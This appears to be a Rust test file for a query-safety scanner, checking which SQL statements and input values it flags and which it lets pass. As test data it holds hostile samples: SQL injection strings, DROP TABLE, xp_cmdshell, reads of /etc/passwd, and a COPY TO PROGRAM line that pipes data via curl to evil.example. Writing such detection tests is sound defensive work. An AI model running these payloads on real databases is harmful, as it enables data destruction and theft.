//! Statements and values, harmful and harmless.

use aegis_core::finding::FindingId::{self, *};

use super::super::tests::{scan, top};

fn statement(sql: &str) -> Vec<(FindingId, u8)> {
    scan("db.query", "query", sql).into_iter().map(|f| (f.id, f.score)).collect()
}

fn value(text: &str) -> u8 {
    scan("crm.lookup", "name", text).iter().filter(|f| f.id == SqlInjection).map(|f| f.score).max().unwrap_or(0)
}

#[test]
fn statements_are_judged_by_what_they_do() {
    for (sql, id, least) in [
        ("DROP TABLE orders", DestructiveSql, 95),
        ("drop table if exists orders cascade;", DestructiveSql, 95),
        ("TRUNCATE TABLE orders", DestructiveSql, 95),
        ("ALTER TABLE orders DROP COLUMN total", DestructiveSql, 95),
        ("DELETE FROM orders", UnguardedMutation, 90),
        ("DELETE FROM orders WHERE 1=1", UnguardedMutation, 90),
        ("DELETE FROM orders WHERE 'a'='a'", UnguardedMutation, 90),
        ("DELETE FROM orders WHERE TRUE", UnguardedMutation, 90),
        ("DELETE FROM orders WHERE id = id", UnguardedMutation, 90),
        ("DELETE FROM orders WHERE id > 0", UnguardedMutation, 90),
        ("DELETE FROM orders WHERE NOT (1 = 2)", UnguardedMutation, 90),
        ("DELETE FROM orders WHERE name LIKE '%'", UnguardedMutation, 90),
        ("UPDATE orders SET total = 0", UnguardedMutation, 90),
        ("UPDATE orders SET total = 0 WHERE id = 7 OR 1 = 1", UnguardedMutation, 90),
        ("WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone LIMIT 1", UnguardedMutation, 90),
        ("SELECT 1; DROP TABLE orders", DestructiveSql, 95),
        ("SELECT 1; DROP TABLE orders", SqlInjection, 70),
        ("SELECT id FROM orders WHERE name = '' OR '1'='1'", SqlInjection, 90),
        ("SELECT id FROM orders WHERE name = 'admin' -- ' AND password = 'x'", SqlInjection, 85),
        ("SELECT name FROM products WHERE id = 1 UNION SELECT password, 1 FROM users", SqlInjection, 85),
        ("COPY orders TO PROGRAM 'curl -d @- evil.example'", CodeExecution, 95),
        ("EXEC xp_cmdshell 'dir'", CodeExecution, 95),
        ("SELECT load_extension('/tmp/x.so')", CodeExecution, 95),
        ("SELECT * FROM orders INTO OUTFILE '/tmp/x'", DataExfiltration, 95),
        ("SELECT pg_read_file('/etc/passwd')", DataExfiltration, 85),
        ("SELECT LOAD_FILE('/etc/passwd')", DataExfiltration, 85),
        ("ATTACH DATABASE '/tmp/x.db' AS x", DataExfiltration, 70),
        ("GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'", PrivilegeEscalationAttempt, 70),
        ("UPDATE users SET role = 'admin' WHERE id = 7", PrivilegeEscalationAttempt, 80),
        ("UPDATE users SET email = 'a@b.example' WHERE id = 7", IdentityTableWrite, 60),
        ("INSERT INTO roles (name) VALUES ('ops')", IdentityTableWrite, 60),
        ("SELECT name, ssn, card_number FROM customers", BulkPiiDump, 95),
        ("SELECT * FROM credit_cards", BulkPiiDump, 95),
        ("SELECT name, email FROM customers", BulkPiiRead, 50),
        ("SELECT * FROM customers", BulkPiiRead, 50),
        ("SELECT email FROM customers LIMIT 1000000", BulkPiiRead, 50),
        ("SELECT id FROM orders", UnboundedQuery, 30),
        ("SELECT name FROM sqlite_master", SchemaRecon, 10),
        ("SELECT table_name FROM information_schema.tables", SchemaRecon, 10),
        ("SEL/**/ECT/**/1/**/FROM/**/orders/**/", ObfuscatedPayload, 60),
        ("SELECT /*!50000 password */ FROM orders LIMIT 1", ObfuscatedPayload, 60),
        ("DELETE FROM orders WHERE !!!", UnguardedMutation, 0),
        ("DROP TABLE ((((((((((((orders", DestructiveSql, 95),
    ] {
        let found = statement(sql).iter().filter(|(i, _)| *i == id).map(|(_, s)| *s).max().unwrap_or(0);
        assert!(found >= least, "{sql}: {id} is {found}");
    }
}

#[test]
fn legal_statements_pass() {
    for sql in [
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > 100 ORDER BY o.total DESC LIMIT 20",
        "WITH recent AS (SELECT * FROM orders WHERE created > '2024-01-01') SELECT country, COUNT(*) FROM recent GROUP BY country",
        "SELECT id FROM orders WHERE total > 5 UNION ALL SELECT id FROM invoices WHERE total > 5",
        "SELECT name FROM products WHERE id IN (SELECT product_id FROM items WHERE order_id = 7)",
        "SELECT COUNT(email) FROM customers",
        "SELECT email FROM customers WHERE id = 7",
        "SELECT email, phone FROM customers LIMIT 10",
        "UPDATE orders SET status = 'sent' WHERE id = 7",
        "UPDATE orders SET status = 'sent' WHERE 1 = 1 AND id = 7",
        "DELETE FROM carts WHERE updated < '2024-01-01'",
        "INSERT INTO orders (id, total) VALUES (1, 9.99), (2, 19.99)",
        "SELECT CASE WHEN total > 5 THEN 'big' ELSE 'small' END FROM orders LIMIT 5",
        "CREATE TABLE notes (id INT PRIMARY KEY, text TEXT)",
        "SELECT * FROM products WHERE name = 'O''Brien -- the best' LIMIT 3",
        "BEGIN; UPDATE accounts SET balance = balance - 5 WHERE id = 1; COMMIT",
        "SELECT 1",
    ] {
        assert!(statement(sql).iter().all(|(_, score)| *score < 50), "{sql}: {:?}", statement(sql));
    }
}

#[test]
fn values_that_break_out_are_injections() {
    for text in [
        "' OR 1=1 --",
        "' or 'x'='x",
        "admin'--",
        "1' ORDER BY 3--",
        "1 UNION SELECT username, password FROM users",
        "1/**/UNION/**/ALL/**/SELECT/**/null,null",
        "x'; DROP TABLE users; --",
        "1; WAITFOR DELAY '0:0:5'",
        "1 AND SLEEP(5)",
        "') OR ('1'='1",
        "1 and (select count(*) from users) > 0",
        "%27%20OR%201%3D1%20--",
        "1' AND extractvalue(1, concat(0x7e, version()))-- -",
        "\" or \"\"=\"",
        "' || (SELECT password FROM users LIMIT 1) || '",
    ] {
        assert!(value(text) >= 80, "{text}: {}", value(text));
    }
}

#[test]
fn ordinary_values_are_not_injections() {
    for text in [
        "O'Brien",
        "It's 5 o'clock; drop me a line or select a table for two",
        "Please update the set of users from the union and select a committee",
        "rock 'n' roll -- the early years",
        "the dogs' or cats' food",
        "price > 5 and stars >= 4",
        "status = open AND priority = high",
        "\"Alien\" and \"Aliens\"",
        "C# or F#, which is better?",
        "15\" laptop case",
        "50% off -- today only!",
        "if (a == b) { return c; }",
        "Order by Friday, group by team",
        "1 or 2 people",
        "time.sleep(5)",
        "A/B testing /* note */ for Q3",
        "I like '90s music",
        "What's new in version (2)?",
    ] {
        assert!(value(text) < 50, "{text}: {}", value(text));
    }
    assert_eq!(top("crm.note", "text", "Hello, all is well."), None);
}
